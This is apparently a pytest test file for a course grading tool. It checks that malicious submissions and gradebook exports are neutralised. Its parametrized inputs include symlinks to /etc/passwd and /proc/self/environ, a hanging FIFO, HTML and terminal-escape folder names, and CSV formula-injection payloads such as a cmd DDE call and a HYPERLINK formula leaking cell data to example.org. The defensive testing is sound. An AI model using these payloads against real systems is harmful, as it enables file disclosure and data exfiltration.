"""Attacks by what lies in the folder of submissions, and by what is exported from the gradebook."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from grading.classroom.collecting.submitted import Handed, find, read
from grading.text import harmless, plain

from .submission import FIRST, ROOT

SOLUTION = ROOT / "solutions" / FIRST / f"{FIRST}.ipynb"


@pytest.fixture
def submitted(tmp_path: Path) -> Path:
    """The folder of submissions, in which Ada has handed in."""
    folder = tmp_path / "submitted"
    mine = folder / "ada" / FIRST
    mine.mkdir(parents=True)
    (mine / f"{FIRST}.ipynb").write_text("the work of Ada")
    return folder


def hand_in_link(folder: Path, target: str, student: str = "mallory") -> None:
    """A submission that is a symbolic link."""
    mine = folder / student / FIRST
    mine.mkdir(parents=True)
    (mine / f"{FIRST}.ipynb").symlink_to(target)


@pytest.mark.parametrize(
    "target",
    [
        str(SOLUTION),
        f"../../ada/{FIRST}/{FIRST}.ipynb",
        "../../../../../../../../etc/passwd",
        "/dev/zero",
        "/proc/self/environ",
        f"{FIRST}.ipynb",  # itself
    ],
)
def test_linked_file_is_not_read(submitted: Path, target: str) -> None:
    hand_in_link(submitted, target)
    [handed] = [h for h in find(submitted, [FIRST]) if h.student == "mallory"]
    content = read(handed)
    assert content.notebook == b""
    assert "not a plain file" in content.why


def test_linked_folders_are_not_entered(submitted: Path) -> None:
    (submitted / "mallory").symlink_to(submitted / "ada")
    (submitted / "eve").mkdir()
    (submitted / "eve" / FIRST).symlink_to(submitted / "ada" / FIRST)
    found = list(find(submitted, [FIRST]))
    handed = {h.student: read(h).notebook for h in found if isinstance(h, Handed)}
    assert handed == {"ada": b"the work of Ada", "eve": b""}


def test_pipe_does_not_hang_the_grader(submitted: Path) -> None:
    mine = submitted / "mallory" / FIRST
    mine.mkdir(parents=True)
    os.mkfifo(mine / f"{FIRST}.ipynb")
    [handed] = [h for h in find(submitted, [FIRST]) if h.student == "mallory"]
    assert read(handed).notebook == b""


@pytest.mark.parametrize("name", ["<img src=x>", 'a"b', "a\\b", "a\nb", "\x1b[2J", "x" * 200])
def test_markup_and_controls_are_no_students_names(submitted: Path, name: str) -> None:
    (submitted / name / FIRST).mkdir(parents=True)
    (submitted / name / FIRST / f"{FIRST}.ipynb").write_text("{}")
    assert [h.student for h in find(submitted, [FIRST]) if isinstance(h, Handed)] == ["ada"]


def test_dots_lead_out_of_nowhere(submitted: Path) -> None:
    outside = submitted.parent / FIRST
    outside.mkdir()
    (outside / f"{FIRST}.ipynb").write_text("outside")
    for name in ("..", "."):
        assert name not in [h.student for h in find(submitted, [FIRST]) if isinstance(h, Handed)]
    timestamp = submitted / "ada" / FIRST / "timestamp.txt"
    timestamp.symlink_to("/etc/passwd")
    [ada] = [h for h in find(submitted, [FIRST]) if isinstance(h, Handed)]
    assert read(ada).timestamp == ""


@pytest.mark.parametrize(
    "name",
    [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "＝1+1",
        '=HYPERLINK("http://example.org?"&A1)',
    ],
)
def test_formula_in_a_name_stays_text(name: str) -> None:
    assert harmless(name).startswith("'")


def test_terminal_is_not_written_to() -> None:
    text = plain("\x1b[2J\x1b]0;owned\x07\x9b31m\u202egrade\r\n20")
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text)
